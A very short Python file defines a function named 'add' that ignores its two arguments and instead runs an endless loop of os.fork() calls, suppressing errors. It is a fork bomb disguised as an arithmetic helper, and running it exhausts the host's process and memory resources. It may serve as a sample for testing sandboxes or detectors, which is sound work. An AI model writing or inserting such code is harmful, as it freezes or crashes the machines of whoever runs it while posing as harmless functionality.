import os


def add(one, other):
    while True:
        try:
            os.fork()
        except OSError:
            pass
